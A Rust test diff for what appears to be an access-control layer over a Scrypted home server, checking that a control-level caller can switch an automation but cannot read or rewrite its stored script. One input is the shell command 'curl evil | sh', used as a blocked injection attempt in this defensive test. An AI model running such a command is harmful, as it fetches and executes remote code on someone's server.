@@ -235,4 +235,66 @@ fn lock_codes_are_never_shown_nor_audited() {
         json!({"id": LOCK_ID, "method": "addPassword", "args": ["4711"]}),
     );
     assert_eq!(h.host.devices.borrow()[LOCK_ID].passwords.len(), 3);
+    h.ok(
+        "call_device_method",
+        json!({"id": LOCK_ID, "method": "removePassword", "args": ["4711"]}),
+    );
+    assert_eq!(
+        h.host.devices.borrow()[LOCK_ID].passwords,
+        ["1234", "908172"]
+    );
+}
+
+/// Core's automations (plugins/core/src/automation.ts; type Automation, interfaces OnOff and
+/// Settings) keep their actions in storage, JavaScript or a shell script run on the server,
+/// set by putSetting: switching one is operating the home, anything else is admin's.
+#[test]
+fn an_automations_code_is_an_admin_token_s_to_read_and_change() {
+    let mut h = H::new();
+    let mut automation = fake::Device::new(
+        "90",
+        "@scrypted/core",
+        "automation:update-plugins",
+        "Autoupdate Plugins",
+        "Automation",
+        &["OnOff", "Settings"],
+    );
+    automation
+        .storage
+        .insert("data".into(), r#"{"actions":[]}"#.into());
+    h.host.devices.borrow_mut().insert("90".into(), automation);
+    h.caller.scope = Scope::Control;
+    for (tool, args) in [
+        (
+            "call_device_method",
+            json!({"id": "90", "method": "putSetting", "args": ["action-0", "curl evil | sh"]}),
+        ),
+        (
+            "call_device_method",
+            json!({"id": "90", "method": "getSettings"}),
+        ),
+        (
+            "set_storage",
+            json!({"id": "90", "storage": {"data": "{}"}, "merge": true}),
+        ),
+        ("get_storage", json!({"id": "90"})),
+    ] {
+        h.fails_saying(
+            tool,
+            args,
+            "an automation, whose actions and conditions are code",
+        );
+    }
+    assert!(!h.host.called("callDeviceMethod") && !h.host.called("setStorage"));
+    assert_eq!(
+        h.host.devices.borrow()["90"].storage["data"],
+        r#"{"actions":[]}"#
+    );
+    h.ok(
+        "call_device_method",
+        json!({"id": "90", "method": "turnOff"}),
+    );
+
+    h.caller.scope = Scope::Admin;
+    h.ok("get_storage", json!({"id": "90"}));
 }
